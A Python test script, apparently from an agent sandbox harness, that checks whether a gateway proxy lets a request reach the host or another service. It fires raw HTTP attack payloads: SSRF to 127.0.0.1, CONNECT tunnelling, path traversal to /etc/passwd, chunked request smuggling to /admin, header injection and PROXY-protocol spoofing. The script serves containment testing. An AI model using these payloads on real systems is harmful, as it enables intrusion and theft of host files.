"""attack: make the gateway connect to something else
promise: gateway

Absolute addresses, CONNECT, two requests in one, paths with dots: whatever the gateway answers, nothing of the host may
be reached through it, and every request must arrive at this attempt's own gateway.
"""

import json
import socket


def agent_main(problem):
    port = json.loads(problem["query"])["tcp"]
    smuggled = f"GET /admin HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"
    requests = [
        f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
        f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nX-Forwarded-Host: 127.0.0.1:{port}\r\n\r\n",
        "GET /../../../../etc/passwd HTTP/1.1\r\nHost: proxy\r\n\r\n",
        "GET /search/%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: proxy\r\n\r\n",
        "GET /search/raw_products HTTP/1.1\r\nHost: proxy\r\n\r\n",
        f"POST /inference/chat/completions HTTP/1.1\r\nHost: proxy\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
        "GET /health HTTP/1.1\r\nHost: proxy\r\nX: a\x00b\r\n\r\n",
        "GET /health HTTP/1.1\r\nHost: proxy\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        f"PROXY TCP4 127.0.0.1 127.0.0.1 1 {port}\r\nGET / HTTP/1.1\r\nHost: proxy\r\n\r\n",
    ]
    return [ask(text) for text in requests]


def ask(text):
    try:
        with socket.create_connection(("proxy", 80), timeout=0.5) as connection:
            connection.sendall(text.encode())
            answer = connection.recv(4096).decode("latin-1")
    except OSError as error:
        return {"escaped": False, "what": f"{text[:40]!r}: {error}"}
    line = answer.split("\r\n")[0]
    return {"escaped": "root:" in answer or "secret-" in answer, "what": f"{text[:40]!r}: {line}"}
